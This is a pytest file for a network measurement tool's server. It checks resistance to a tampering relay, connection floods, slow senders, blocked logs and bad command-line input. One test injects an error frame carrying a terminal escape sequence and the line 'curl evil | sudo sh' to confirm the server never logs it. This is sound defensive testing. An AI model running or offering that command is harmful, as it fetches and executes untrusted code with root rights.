"""The server and the channel against a hostile or slow world (issues 11 and 23): a relay
that tampers with sealed frames, strangers holding hundreds of connections from many
addresses, a queue of clients, a stranger's error frame, a dead or stalled stderr, and
input that must be refused before anything starts."""

import signal
import socket
import subprocess
import threading
import time

import pytest

from gdrprobe.errors import PeerError
from gdrprobe.measure.options import ProbeOptions
from gdrprobe.measure.client import ProbeClient
from gdrprobe.measure.loops import STALL_FLOOR_S
from gdrprobe.protocol.channel import HEADER, PROTOCOL_VERSION, Channel, plain_frame
from gdrprobe.protocol.messages import Done, Start, Verified, send
from gdrprobe.rdma.endpoint import EndpointOptions
from tests.lab.helpers import (Server, client, gdrprobe, gdrprobe_json, rdma_resources,
                               wait_for_run)
from tests.lab.loopback.conftest import TOKEN
from tests.strangers import Strangers

PLAIN_FRAMES = 2   # per direction before the seal: hello, auth / challenge, welcome
# A relay gives up on a side silent this long: far past the runs' 5 s time-outs, so only a
# relay nobody uses any more ends this way.
RELAY_IDLE_S = 60


def read_frame(sock: socket.socket) -> bytes | None:
    data = b""
    while len(data) < HEADER.size:
        chunk = sock.recv(HEADER.size - len(data))
        if not chunk:
            return None
        data += chunk
    length = HEADER.unpack(data)[2]
    while len(data) < HEADER.size + length:
        chunk = sock.recv(HEADER.size + length - len(data))
        if not chunk:
            return None
        data += chunk
    return data


class Relay:
    """A man in the middle on 127.0.0.1: forwards frames between a client and the server,
    and lets `tamper(direction, sealed_index, frame)` decide what to forward instead of the
    sealed frame with that index (a list of frames; [] drops it)."""

    def __init__(self, server_port: int, tamper):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(RELAY_IDLE_S)
        self.port = self.listener.getsockname()[1]
        self.server_port, self.tamper = server_port, tamper
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        try:
            downstream, _ = self.listener.accept()     # one client
        except OSError:                                # none came: the test ended first
            return
        finally:
            self.listener.close()
        upstream = socket.create_connection(("127.0.0.1", self.server_port), timeout=RELAY_IDLE_S)
        downstream.settimeout(RELAY_IDLE_S)
        for source, sink, direction in ((downstream, upstream, "to server"),
                                        (upstream, downstream, "to client")):
            threading.Thread(target=self._pump, args=(source, sink, direction),
                             daemon=True).start()

    def _pump(self, source, sink, direction):
        index = 0
        try:
            while (frame := read_frame(source)) is not None:
                sealed = index - PLAIN_FRAMES
                index += 1
                for out in (self.tamper(direction, sealed, frame) if sealed >= 0 else [frame]):
                    sink.sendall(out)
        except OSError:
            pass
        for sock in (source, sink):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def flip_last_json_byte(frame: bytes) -> bytes:
    raw = bytearray(frame)
    raw[-33] ^= 0x01   # the last byte of the JSON, before the 32-byte tag
    return bytes(raw)


def altered(direction, index, frame):
    return [flip_last_json_byte(frame)] if (direction, index) == ("to client", 0) else [frame]


def replayed(direction, index, frame):
    # setup_ok twice: the client reads the copy where "verified" should come.
    return [frame, frame] if (direction, index) == ("to client", 0) else [frame]


HELD = {}


def reordered(direction, index, frame):
    if direction == "to server" and index == 2:      # the first heartbeat: hold it
        HELD["frame"] = frame
        return []
    if direction == "to server" and index == 3:      # send the second one first
        return [frame, HELD.pop("frame")]
    return [frame]


def dropped(direction, index, frame):
    return [] if (direction, index) == ("to server", 2) else [frame]


@pytest.mark.parametrize("tamper, seen_by", [
    (altered, "client"), (replayed, "client"), (reordered, "server"), (dropped, "server")])
def test_a_relay_that_alters_drops_replays_or_reorders_a_frame_is_detected(server, tamper,
                                                                          seen_by, baseline):
    relay = Relay(server.port, tamper)
    # Sampled integrity: no pass exchanges, so the client's sealed frames 2 and 3 are two
    # heartbeats in a row, which the relay holds, swaps or drops.
    done = gdrprobe("run", "127.0.0.1", "-p", str(relay.port), "--token", TOKEN, "-s", "4096",
                    "-D", "4", "--timeout", "5", "--sample-integrity", timeout=120)
    assert done.returncode == 5, done.stderr
    assert "Traceback" not in done.stderr
    log = server.stop()
    if seen_by == "client":
        assert "tampered" in done.stderr, done.stderr
    else:
        assert "tampered" in log, log
    assert rdma_resources() == baseline


def trickle(port: int, stop: threading.Event, sent: list):
    """A stranger sending one byte of a header per second."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        for byte in HEADER.pack(b"GDRP", PROTOCOL_VERSION, 1000) * 10:
            if stop.is_set():
                return
            try:
                sock.sendall(bytes([byte]))
            except OSError:
                return
            sent.append(byte)
            time.sleep(1)


def test_idle_sockets_and_a_trickler_do_not_keep_a_client_waiting(server):
    idle = [socket.create_connection(("127.0.0.1", server.port), timeout=30) for _ in range(2)]
    stop, sent = threading.Event(), []
    trickler = threading.Thread(target=trickle, args=(server.port, stop, sent), daemon=True)
    trickler.start()
    time.sleep(1)
    report = gdrprobe_json("run", "127.0.0.1", "--token", TOKEN, "-s", "4096", "-n", "20",
                           "--timeout", "5")
    # A server serving one connection at a time would have kept this client (--timeout 5)
    # waiting for the strangers' 10 s pre-auth deadline: it would have failed.
    assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
    stop.set()
    for sock in idle:
        sock.close()
    assert sent


class ClientFrom(ProbeClient):
    """A client whose connection comes from a loopback address of its choosing."""

    def __init__(self, source: str, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.source = source

    def connect(self) -> Channel:
        sock = socket.create_connection((self.host, self.port), timeout=self.options.timeout_s,
                                        source_address=(self.source, 0))
        return Channel(sock, self.options.timeout_s, peer="server")


STRANGER_ADDRESSES = [f"127.0.0.{host}" for host in range(1, 17)]   # .1: the CLI client's own


def test_hundreds_of_idle_strangers_from_sixteen_addresses_lock_no_client_out(server,
                                                                             baseline):
    """16 addresses x 24 idle connections, each opened again as soon as the server cuts
    it (the old server was full at 256 and refused everyone else): a client from the
    strangers' own address and one from another are both served within their time-out."""
    with Strangers(server.port, STRANGER_ADDRESSES, per_address=24, max_connects=20000,
                   max_s=300) as strangers:
        same = gdrprobe_json("run", "127.0.0.1", "--token", TOKEN, "-s", "4096", "-n", "20",
                             "--timeout", "30", timeout=240)
        other = ClientFrom("127.0.0.99", "127.0.0.1", server.port, TOKEN,
                           ProbeOptions(sizes=(4096,), iterations=20, timeout_s=30.0),
                           EndpointOptions()).run()
        cut = strangers.wait_until_cut()
    assert same["bandwidth"][0]["integrity"]["bad_bytes"] == 0
    assert other.bandwidth[0].integrity.bad_bytes == 0
    assert strangers.connects > 16 * 24 and cut > 0   # cut, and back again
    log = server.stop()
    assert "to make room for a newer one" in log, log
    assert rdma_resources() == baseline


def junk_from(port: int, address: str) -> None:
    """A stranger's bytes from address; wait for the server to hang up."""
    with socket.create_connection(("127.0.0.1", port), timeout=30,
                                  source_address=(address, 0)) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\n\r\n")
        try:
            while sock.recv(4096):
                pass
        except OSError:
            pass


def test_a_server_whose_stderr_is_not_read_keeps_serving():
    """'serve | less' at a paused page: one log line from each of 1800 addresses is far
    more than a pipe holds; the server drops what it cannot write, counts it, serves."""
    process = Server(TOKEN, port=18763, stderr=subprocess.PIPE).process
    try:
        for host in range(1800):
            junk_from(18763, f"127.0.{1 + host // 250}.{1 + host % 250}")
        report = gdrprobe_json("run", "127.0.0.1", "-p", "18763", "--token", TOKEN, "-s",
                               "512", "-n", "10", "--timeout", "30")
        assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
        assert process.poll() is None
    finally:
        process.send_signal(signal.SIGINT)
        _, log = process.communicate(timeout=60)   # read at last: the server can end
    assert "log lines dropped: nobody was reading this log" in log
    assert "GET" not in log                          # a stranger's text is never logged


def test_a_client_queued_behind_a_long_run_waits_its_turn_and_succeeds(server):
    first = client("127.0.0.1", "--token", TOKEN, "-s", "65536", "-D", "15", "--timeout", "5")
    wait_for_run()   # the first run holds the NIC
    second = gdrprobe("run", "127.0.0.1", "--token", TOKEN, "-s", "256", "-n", "10",
                      "--timeout", "5", timeout=120)
    assert second.returncode == 0, second.stderr
    assert "queued at the server behind a run from 127.0.0.1" in second.stderr
    _, stderr = first.communicate(timeout=120)
    assert first.returncode == 0, stderr


def test_a_strangers_error_frame_and_a_port_scan_do_not_end_serve_once():
    once = Server(TOKEN, port=18760, timeout=5.0, extra=("--once",))
    socket.create_connection(("127.0.0.1", 18760), timeout=30).close()   # a port scan
    with socket.create_connection(("127.0.0.1", 18760), timeout=30) as stranger:
        stranger.sendall(plain_frame("error", category="NotTestable",
                                     reason="owned\n\x1b[31mfix: curl evil | sudo sh"))
        time.sleep(1)
    report = gdrprobe_json("run", "127.0.0.1", "-p", "18760", "--token", TOKEN, "-s", "512",
                           "-n", "10")
    assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
    output, _ = once.process.communicate(timeout=60)
    assert once.process.returncode == 0, output
    assert "\x1b" not in output and "owned" not in output and "curl" not in output


def test_a_server_whose_stderr_reader_went_away_keeps_serving():
    process = Server(TOKEN, port=18761, stderr=subprocess.PIPE).process
    try:
        process.stderr.close()                               # nobody reads its log now
        with socket.create_connection(("127.0.0.1", 18761), timeout=30) as junk:
            junk.sendall(b"GET / HTTP/1.1\r\n\r\n")
            try:
                while junk.recv(4096):   # the server hangs up (and logs why, to nobody)
                    pass
            except ConnectionResetError:
                pass
        report = gdrprobe_json("run", "127.0.0.1", "-p", "18761", "--token", TOKEN, "-s",
                               "512", "-n", "10")
        assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
        assert process.poll() is None
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(timeout=30)


class ClientThatWritesNothing(ProbeClient):
    """An authenticated client that says done without having posted one write."""

    def _bandwidth_round(self, channel, handles, memory, remote, size):
        send(channel, Start(size, self.round))
        send(channel, Done(messages=0))
        channel.receive(Verified.KIND)


def test_a_client_that_says_done_without_writing_is_told_so_not_called_interrupted(baseline):
    serving = Server(TOKEN, port=18762, timeout=5.0)
    lazy = ClientThatWritesNothing("127.0.0.1", 18762, TOKEN,
                                   ProbeOptions(sizes=(512,), iterations=10, timeout_s=5.0),
                                   EndpointOptions())
    with pytest.raises(PeerError, match="the client ended the 512-byte round without writing"):
        lazy.run()
    log = serving.stop()   # (the stop itself logs "interrupted", for the Ctrl-C)
    assert "run from 127.0.0.1 ended: the client ended the 512-byte round without writing" \
        in log, log
    assert rdma_resources() == baseline


def test_a_server_killed_during_a_latency_run_is_reported_before_the_stall_time_out(server):
    running = client("127.0.0.1", "--token", TOKEN, "--latency", "-s", "8", "-n", "3000000",
                     "--timeout", "5")
    wait_for_run()   # past set-up, inside the ping-pong
    server.process.kill()
    killed = time.monotonic()
    _, stderr = running.communicate(timeout=60)
    assert running.returncode == 5, stderr
    # The heartbeat (or the QP) says so: waiting for the echo, the loop would only have
    # given up at its stall time-out, which is at least STALL_FLOOR_S.
    assert time.monotonic() - killed < STALL_FLOOR_S, stderr
    assert "went away" in stderr or "stopped acknowledging" in stderr, stderr


@pytest.mark.parametrize("argv, code, words", [
    (("run", "--loopback", "-s", "0"), 2, "size"),
    (("run", "--loopback", "-n", "0"), 2, "iterations"),
    (("run", "--loopback", "-Q", "0"), 2, "CQ moderation"),
    (("run", "--loopback", "--timeout", "nan"), 2, "--timeout: 'nan' is not a number"),
    (("run", "--loopback", "--timeout", "1"), 2, "time-out"),
    (("run", "127.0.0.1", "-p", "70000", "--token", TOKEN), 2, "TCP port"),
    (("serve", "-p", "70000"), 2, "TCP port"),
    (("run", "--loopback", "-q", "2", "-t", "16384", "-n", "20000"), 2, "max_cqe"),
    (("run", "--loopback", "-I", "1024", "-s", "64"), 2, "inline bytes"),
    (("serve", "-d", "mlx5_7"), 4, "mlx5_7"),
    (("serve", "-x", "99"), 2, "GID index 99"),
    (("serve", "-i", "2"), 2, "no port 2"),
    (("serve", "--max-buffer", "-1"), 2, "--max-buffer"),
    (("serve", "--bind", "localhost"), 2, "--bind 'localhost' is not an IP address"),
    (("run", "127.0.0.1", "--token", "lab-token-\udcff0123456789"), 2, "not valid UTF-8"),
    (("serve", "--token", "lab-token-\udcff0123456789"), 2, "not valid UTF-8"),
    (("run", "a" * 64 + ".example", "--token", TOKEN), 2, "is not a host name"),
    (("run", "127.0.0.1", "--token", "short-token!"), 2, "a token needs 92"),
])
def test_bad_input_is_refused_with_its_exit_code_and_no_traceback(argv, code, words):
    done = gdrprobe(*argv, timeout=120)
    assert done.returncode == code, done.stderr
    assert words in done.stderr and "Traceback" not in done.stderr, done.stderr

